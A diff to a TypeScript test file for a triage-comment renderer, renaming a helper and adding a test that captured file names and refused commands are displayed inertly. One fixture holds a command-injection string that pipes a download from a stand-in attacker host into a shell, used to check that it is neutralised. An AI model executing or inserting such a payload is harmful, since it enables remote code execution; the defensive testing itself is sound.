@@ -1,6 +1,6 @@
 import { describe, expect, test } from 'vitest'
 import { openPack } from '../../src/cli/pack.ts'
-import { placeValue, showCaptured } from '../../src/comments/captured-value.ts'
+import { placeValue, showValue } from '../../src/comments/captured-value.ts'
 import { renderCheckAnswer } from '../../src/comments/check-answer.ts'
 import { renderCluster } from '../../src/comments/cluster-section.ts'
 import { renderComment } from '../../src/comments/triage-comment.ts'
@@ -11,7 +11,7 @@ import type { Signature } from '../../src/signatures/schema.ts'
 import { strictShapeOf } from '../../src/signatures/strict-shapes.ts'
 import { generator } from '../helpers/generator.ts'
 import { nodesOf, parseMarkdown } from '../helpers/markdown.ts'
-import { askOf, assertOf, candidateOf, reportOf } from '../helpers/reports.ts'
+import { askOf, assertOf, candidateOf, evidenceOf, reportOf } from '../helpers/reports.ts'
 import { packOf, signatureOf } from '../helpers/signatures.ts'
 
 /** By it the captured values are found in a comment. */
@@ -174,7 +174,7 @@ describe('a captured value', () => {
 
   test('is shown without what could act in lists of values, too', () => {
     for (const value of nastyValues(200, 5)) {
-      expect(codeWithValues(`- ${showCaptured(value)} (3)`).filter((code) => !isDead(code))).toEqual([])
+      expect(codeWithValues(`- ${showValue(value)} (3)`).filter((code) => !isDead(code))).toEqual([])
       const cluster = {
         ...{ id: 1, count: 2, open: 1, authors: 2, firstSeen: 0, lastSeen: 0, weeks: [], signature: null, worked: [] },
         ...{ growth: { lately: 0, before: 0 }, versions: [], surfaces: [], signals: [] },
@@ -187,6 +187,20 @@ describe('a captured value', () => {
     }
   })
 
+  test('is as dead as the name of a file and a command that was refused', () => {
+    for (const value of nastyValues(60, 9)) {
+      const evidence = [evidenceOf({ source: value })]
+      const report = reportOf({ unread: [{ name: value, why: 'could not be reached', forbidden: true }] })
+      const answers = [{ kind: 'refused', command: `split ${value}`, why: 'only maintainers may say that' }] as const
+      const diagnosis = assertOf(candidateOf('missing-scope', { evidence }))
+      const said = renderComment({ report, pack: packOf(signatureOf('missing-scope')), diagnosis, answers })
+      const alive = codeWithValues(said ?? '')
+        .map((code) => code.replace(/^\/triage split /, '').replaceAll(' ', ''))
+        .filter((code) => !isDead(code))
+      expect({ value, alive }).toEqual({ value, alive: [] })
+    }
+  })
+
   test.each([
     ['files:read', '`files:read`'],
     ['https://mcp.example.com:8443/a/b', '`https://mcp.example.com:8443/a/b`'],
@@ -194,7 +208,7 @@ describe('a captured value', () => {
     [`x;curl$${'{IFS}'}evil.example|sh`, '“x…curl…IFS…evil.example…sh”'],
     ['Acme Team', '“Acme Team”'],
   ])('is recognised by a reader: %s', (value, shown) => {
-    expect(showCaptured(value)).toBe(shown)
+    expect(showValue(value)).toBe(shown)
   })
 })
 
